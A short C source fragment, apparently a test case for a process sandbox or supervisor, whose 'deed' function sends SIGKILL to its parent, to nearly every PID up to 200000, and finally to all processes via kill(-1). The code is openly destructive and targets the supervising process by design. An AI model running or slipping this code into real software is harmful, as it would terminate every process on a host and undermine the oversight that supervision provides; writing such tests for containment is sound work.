/* Kills whatever it can name: its keeper and the supervisor among them. */
#include "deed.h"

static void deed(void)
{
	kill(getppid(), SIGKILL);
	for (pid_t pid = 2; pid < 200000; pid++)
		if (pid != getpid())
			kill(pid, SIGKILL);
	kill(-1, SIGKILL);
}
